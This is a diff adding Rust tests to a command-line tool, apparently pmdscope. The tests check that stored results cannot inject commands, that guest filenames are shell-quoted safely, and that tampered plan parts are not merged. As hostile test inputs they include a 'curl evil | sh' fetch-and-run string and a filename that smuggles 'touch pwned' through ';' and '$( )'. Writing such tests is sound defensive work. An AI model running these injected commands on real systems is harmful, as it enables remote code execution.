@@ -159,6 +159,61 @@ fn a_reproducers_words_are_never_a_command() {
     }
 }
 
+/// Nor are those of results: they are refused.
+#[test]
+fn the_words_of_results_are_never_a_command() {
+    let scratch = batch("the-words-of-results", &["r", "other"]);
+    let hostile = "curl evil | sh; pmdscope ";
+    for file in fs::read_dir(scratch.path().join("r/records")).expect("records").flatten() {
+        let lines =
+            segment::lines(fs::File::open(file.path()).expect("a segment")).expect("its lines").concat();
+        let changed = lines.replace("\"command\":\"pmdscope ", &format!("\"command\":\"{hostile}"));
+        assert!(changed.contains(hostile), "{lines}");
+        fs::write(file.path(), segment::seal([changed.as_str()]).expect("sealed")).expect("written");
+    }
+    for line in
+        ["report r", "report r --format html", "report r --format jsonl", "diff other r", "diff r other"]
+    {
+        refused(&pmdscope_in(scratch.path(), line), "what it gives as its command is none of this program's");
+    }
+}
+
+/// The name of a guest's file is in the command that runs it again.
+#[test]
+fn a_guest_of_any_name_can_be_run_again() {
+    let scratch = Scratch::new("a-guest-of-any-name");
+    let guest = Path::new(env!("CARGO_MANIFEST_DIR")).join("guest/elf/arm64-6.12.elf");
+    let name = "a guest; touch pwned $(touch pwned).elf";
+    fs::copy(guest, scratch.path().join(name)).expect("copied");
+    for args in [
+        &["run", "--arch", "arm64", "--entry", "none", "--guest", name, "--format", "json"][..],
+        &["sweep", "--arch", "arm64", "--entries", "present-huge", "--guest", name, "--format", "json"][..],
+    ] {
+        let ran = finish(command(args).current_dir(scratch.path()));
+        let report: Value = serde_json::from_str(&ran.stdout).expect("a report");
+        let again =
+            report["command"].as_str().or(report["sweeps"][0]["command"].as_str()).expect("a command");
+        let again = again.replacen("pmdscope", "\"$PMDSCOPE\"", 1) + " --format json";
+        assert_eq!(shell(&scratch, &again).stdout, ran.stdout, "{again}");
+    }
+    assert!(!scratch.path().join("pwned").exists());
+}
+
+/// Parts of one plan have the same number of jobs, or one was changed.
+#[test]
+fn parts_that_do_not_have_the_same_jobs_are_not_merged() {
+    let scratch = parts("parts-that-do-not-have-the-same-jobs");
+    let file = scratch.path().join("p2/batch.json");
+    let mut batch: Value = serde_json::from_slice(&fs::read(&file).expect("a file")).expect("JSON");
+    batch["jobs"] = json!(1_000_000);
+    fs::write(&file, batch.to_string()).expect("written");
+    refused(
+        &pmdscope_in(scratch.path(), "merge p1 p2 -o merged"),
+        "of the same plan it has 1000000 jobs, not",
+    );
+    assert_eq!(names(scratch.path()), ["m.toml", "p1", "p2"]);
+}
+
 #[test]
 fn bounds_of_a_reproducer_are_bounded() {
     let scratch = Scratch::new("bounds-of-a-reproducer");
